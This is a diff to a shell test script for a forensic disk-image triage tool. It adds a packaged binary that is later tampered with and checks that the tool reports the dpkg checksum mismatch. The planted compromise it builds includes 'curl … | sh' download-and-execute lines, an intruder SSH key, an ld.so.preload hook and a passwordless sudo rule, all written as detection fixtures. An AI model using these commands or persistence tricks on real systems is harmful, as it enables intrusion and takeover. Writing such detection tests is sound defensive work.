@@ -206,6 +206,11 @@ printf 'PermitRootLogin yes\n' >"$I/etc/ssh/sshd_config"
 ssh-keygen -q -t ed25519 -N '' -C managed@ops -f "$W/managed"
 ssh-keygen -q -t ed25519 -N '' -C intruder@evil -f "$W/intruder"
 cp "$W/managed.pub" "$I/root/.ssh/authorized_keys"
+# a package: two files, then dpkg's checksums of them (written after them, as dpkg does)
+mkdir -p "$I/usr/bin" "$I/usr/share/doc/tool" "$I/var/lib/dpkg/info"
+printf '#!/bin/sh\necho tool\n' >"$I/usr/bin/tool"
+echo 'a tool' >"$I/usr/share/doc/tool/README"
+(cd "$I" && md5sum usr/bin/tool usr/share/doc/tool/README) >"$I/var/lib/dpkg/info/tool.md5sums"
 # links that would leave the image if they were followed on the host
 ln -s /etc/sudoers "$I/etc/sudoers.d/zz-link"
 ln -s ../../../../../../../../../etc/passwd "$I/etc/sudoers.d/zz-rel"
@@ -218,6 +223,8 @@ printf '%s\n' '[Unit]' 'Description=updater' '[Service]' 'ExecStart=/tmp/.cache/
         '[Install]' 'WantedBy=multi-user.target' >"$I/etc/systemd/system/updater.service"
 cat "$W/intruder.pub" >>"$I/root/.ssh/authorized_keys"
 echo /usr/lib/x86_64-linux-gnu/libhook.so >"$I/etc/ld.so.preload"
+printf '#!/bin/sh\ncurl -s http://127.0.0.1:9/k | sh\n' >"$I/usr/bin/tool"
+chmod 0755 "$I/usr/bin/tool"
 echo 'alice ALL=(ALL) NOPASSWD: ALL' >"$I/etc/sudoers.d/90-alice"
 printf '%s\n' '+ make' '+ curl -fsSL http://127.0.0.1:9/setup.sh | bash' >"$I/var/lib/jenkins/jobs/app/builds/7/log"
 
@@ -242,6 +249,10 @@ expect_eq "sudo NOPASSWD for everything is flagged" true \
         "$(has_rule triage.sudo-nopasswd "f['severity'] == 'high' and f['evidence']['file'] == '/etc/sudoers.d/90-alice'")"
 expect_eq "curl|bash in a Jenkins build log is flagged" true \
         "$(has_rule triage.ci-download-exec "f['evidence']['line_number'] == 2")"
+expect_eq "a packaged executable changed after install is an integrity finding" true \
+        "$(has_rule triage.package-modified "f['category'] == 'integrity' and f['severity'] == 'high' and f['evidence']['files'] == ['/usr/bin/tool']")"
+expect_eq "the untouched packaged file was not hashed (its ctime predates the checksums)" "1 1" \
+        "$(json "$W/disk/packages.json" "'%d %d' % (d['files_hashed'], d['files_unchanged_since_install'])")"
 expect_eq "PermitRootLogin yes is flagged" true "$(has_rule triage.sshd-root-login "f['category'] == 'exposure'")"
 expect_eq "a symlink in the image resolves inside the image, not on the host" "root ALL=(ALL:ALL) ALL" \
         "$(cat "$W/disk/raw/etc/sudoers.d/zz-link" 2>/dev/null)"
@@ -269,7 +280,8 @@ expect_eq "diff shows the new key for alice" 1 \
 RC=0
 "$BUILDWARD" triage diff "$W/disk2" "$W/disk2" >"$W/diff0.out" 2>&1 || RC=$?
 expect_rc "triage diff of a bundle with itself exits 0" 0
-"$BUILDWARD" triage --root "$I" --out "$W/disk3" --baseline "$W/disk2" >"$W/base.out" 2>&1
+"$BUILDWARD" triage --root "$I" --out "$W/disk3" --baseline "$W/disk2" --hash-all >"$W/base.out" 2>&1
+expect_eq "--hash-all hashes every packaged file" 2 "$(json "$W/disk3/packages.json" "d['files_hashed']")"
 expect_match "--baseline prints the changes after the capture" "changes since '.*disk2':" "$(cat "$W/base.out")"
 check "--archive packs a tar.zst holding the manifest" \
         sh -c "tar --zstd -tf '$W/disk2.tar.zst' | grep -qx 'disk2/MANIFEST.sha256'"
